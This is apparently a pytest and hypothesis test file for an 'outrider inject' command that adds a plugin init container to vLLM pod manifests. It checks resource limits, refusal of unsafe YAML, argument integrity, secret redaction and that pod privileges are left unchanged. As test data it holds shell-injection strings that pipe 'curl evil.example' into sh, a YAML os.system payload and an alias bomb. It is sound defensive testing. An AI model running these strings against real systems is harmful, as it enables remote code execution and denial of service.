"""``outrider inject`` on manifests of others: it answers or refuses in time, and adds nothing but its own."""

from __future__ import annotations

import copy
import json
import time
from contextlib import suppress
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st

from outrider.importing.findings import ImportRefused
from outrider.importing.injection import Injected, Injection, inject

SECONDS = 6.0
"""Limit of `outrider.foreign.readers.IMPORTED`, with room for a busy machine."""
WANTED = Injection(image="registry/plugin:1")
CONFIG = {"method": "eagle3", "model": "org/head", "num_speculative_tokens": 3}
FLAG = f"--speculative-config={json.dumps(CONFIG)}"
CONTAINER: dict[str, Any] = {
    "name": "vllm",
    "image": "vllm/vllm-openai:v0.33.0",
    "args": ["--model=org/target", FLAG],
    "env": [{"name": "HF_HOME", "value": "/cache"}],
    "volumeMounts": [{"name": "cache", "mountPath": "/cache"}],
    "resources": {"limits": {"nvidia.com/gpu": 1}},
}
POD: dict[str, Any] = {
    "kind": "Pod",
    "metadata": {"name": "chat", "annotations": {"team": "a"}},
    "spec": {
        "containers": [CONTAINER],
        "initContainers": [{"name": "first", "image": "first:1"}],
        "volumes": [{"name": "cache", "emptyDir": {}}],
    },
}


def injected(text: str) -> list[Injected]:
    """What the command does with a text, within its time."""
    began = time.process_time()
    try:
        return list(inject(text, WANTED))
    finally:
        assert time.process_time() - began < SECONDS


def places(value: object, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """The path of each value in an object."""
    inside = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    return [path, *(place for key, part in inside for place in places(part, (*path, key)))]


def changed(path: tuple[Any, ...], value: object) -> Any:
    """The pod with another value at a path."""
    pod = copy.deepcopy(POD)
    if not path:
        return value
    holder: Any = pod
    for key in path[:-1]:
        holder = holder[key]
    holder[path[-1]] = value
    return pod


ODD = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(-(2**70), 2**70),
        st.floats(),
        st.text(max_size=12),
        st.sampled_from(
            [FLAG, "$(A)", "'", "${A", "--speculative-config", "{", "vllm serve", "outrider-plugin"]
        ),
    ),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
    max_leaves=6,
)


@given(st.sampled_from(places(POD)), ODD)
def test_any_value_in_any_place_is_answered_or_refused(path: tuple[Any, ...], value: object) -> None:
    with suppress(ImportRefused):
        assert len(injected(yaml.safe_dump(changed(path, value)))) <= 1


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("a: &a [x, x]\nb: &b [*a, *a]\n" + "".join(f"c{i}: &c{i} [*b, *b]\n" for i in range(9)), ""),
        ("[" * 5000, "it is"),
        ("{kind: Pod, spec: " * 70 + "{}" + "}" * 70, "it is too large"),
        ("kind: Pod\nspec: {containers: [" + "{}," * 7000 + "]}", "it is too large"),
        ("x" * 200_000, "it is too large"),
        ("!!python/object/apply:os.system ['true']", "it is not YAML"),
        ("kind: Pod\nmetadata: {name: '{{ .Values.name }}'}", "helm template"),
        ("\x00", "it is not YAML"),
    ],
    ids=["aliases", "brackets", "levels", "containers", "size", "program", "template", "control character"],
)
def test_texts_that_cost_much_or_run_programs_are_refused(text: str, why: str) -> None:
    if not why:
        assert not any(each.changes for each in injected(text))
        return
    with pytest.raises(ImportRefused, match=why):
        injected(text)


@pytest.mark.parametrize(
    "script",
    [
        "vllm serve org/target --speculative-config '{" + "{" * 20_000,
        "vllm serve org/target " + "--speculative-config " * 5_000,
        "vllm serve org/target --speculative-config='" + "{}'" * 20_000,
        "vllm serve org/target --speculative-config '" + json.dumps(CONFIG) + "'" + "; true" * 5_000,
        "vllm serve org/target --speculative-config '" + '{"a":' * 10_000 + "1" + "}" * 10_000 + "'",
    ],
    ids=["braces", "flags", "quotes", "statements", "levels"],
)
def test_scripts_that_cost_much_are_read_in_time(script: str) -> None:
    pod = changed(("spec", "containers", 0, "args"), [script])
    pod["spec"]["containers"][0]["command"] = ["sh", "-c"]
    with suppress(ImportRefused):
        injected(json.dumps(pod))


@pytest.mark.parametrize(
    "word",
    [
        "'; curl evil.example | sh #",
        "$(curl evil.example)",
        "`id`",
        "\n- --trust-remote-code\n",
        "\u202e\x1b[2J",
    ],
)
def test_a_word_of_the_owner_stays_one_word(word: str) -> None:
    """Nothing of a word becomes a further argument or a command."""
    pod = changed(
        ("spec", "containers", 0, "args"), ["--model=org/target", FLAG, "--served-model-name", word]
    )
    (found,) = injected(yaml.safe_dump(pod))
    again: Any = yaml.safe_load(yaml.safe_dump(found.manifest))
    args = again["spec"]["containers"][0]["args"]
    assert args[2:] == ["--served-model-name", word]
    assert len(args) == 4


def test_a_secret_of_the_owner_is_in_no_message() -> None:
    secret = "hf_abcdefghijklmnopqrstuvwxyz"
    words = ["--model=org/target", f"--speculative-config={{'method': '{secret}'}}"]
    with pytest.raises(ImportRefused) as refused:
        injected(json.dumps(changed(("spec", "containers", 0, "args"), words)))
    assert secret not in str(refused.value)


@pytest.mark.parametrize("field", ["hostNetwork", "hostPID", "serviceAccountName", "securityContext"])
def test_rights_of_the_pod_stay_as_they_are(field: str) -> None:
    value: Any = {"runAsUser": 0} if field == "securityContext" else "admin" if "Name" in field else True
    pod = changed(("spec", field), value)
    (found,) = injected(json.dumps(pod))
    spec: Any = found.manifest["spec"]
    assert spec[field] == value
    assert spec["initContainers"][0]["securityContext"]["allowPrivilegeEscalation"] is False
    assert [one["name"] for one in spec["initContainers"][1:]] == ["first"]


def test_parts_with_outriders_names_are_replaced_and_not_used() -> None:
    """An init container of that name could bring another plugin."""
    pod = copy.deepcopy(POD)
    pod["spec"]["initContainers"].append({"name": "outrider-plugin", "image": "evil:1"})
    pod["spec"]["volumes"].append({"name": "outrider-plugin", "hostPath": {"path": "/evil"}})
    pod["spec"]["volumes"].append({"name": "outrider-schedule", "configMap": {"name": "evil"}})
    pod["spec"]["containers"][0]["env"].append({"name": "OUTRIDER_PUBLIC_KEY_FILE", "value": "/evil"})
    (found,) = injected(json.dumps(pod))
    assert "evil" not in json.dumps(found.manifest)
